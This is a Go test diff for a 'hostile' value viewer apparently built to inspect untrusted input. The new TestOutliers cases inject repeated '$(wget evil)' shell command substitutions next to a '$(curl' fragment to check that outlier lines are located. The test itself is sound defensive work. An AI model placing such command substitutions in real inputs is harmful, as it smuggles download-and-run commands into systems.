@@ -9,13 +9,18 @@ import (
 	"github.com/holdpoint/holdpoint/ui/view/hostile"
 )
 
-func showLong(t *testing.T, text string) (v hostile.Value, shown string, repeats []int) {
+func quote(t *testing.T, text string) string {
 	t.Helper()
 	quoted, err := json.Marshal(text)
 	if err != nil {
 		t.Fatal(err)
 	}
-	fields, err := hostile.ReadFields([]byte(`{"v":`+string(quoted)+`}`), hostile.Limits{Collapse: true})
+	return string(quoted)
+}
+
+func showLong(t *testing.T, text string) (v hostile.Value, shown string, repeats []int) {
+	t.Helper()
+	fields, err := hostile.ReadFields([]byte(`{"v":`+quote(t, text)+`}`), hostile.Limits{Collapse: true})
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -99,6 +104,14 @@ func TestOutliers(t *testing.T) {
 	}
 	if anchors != 1 {
 		t.Errorf("%d places to jump to", anchors)
+	}
+	few := strings.Replace(rows.String(), "$(curl", strings.Repeat("$(wget evil)\n", 5)+"$(curl", 1)
+	if v, _, _ := showLong(t, few); len(v.Outliers) != 2 || v.Outliers[0].Line != 312 || v.Outliers[1].Line != 317 {
+		t.Errorf("outliers in a row: %+v", v.Outliers)
+	}
+	twice, err := hostile.ReadFields([]byte(`{"a":`+quote(t, few)+`,"b":`+quote(t, few)+`}`), hostile.Limits{Collapse: true})
+	if err != nil || twice.List[0].Value.Outliers[0].ID == twice.List[1].Value.Outliers[0].ID {
+		t.Errorf("two arguments share a place: %v", err)
 	}
 	if v, _, _ := showLong(t, prose.String()); !v.Long || len(v.Outliers) > 0 {
 		t.Errorf("prose has %d outliers", len(v.Outliers))
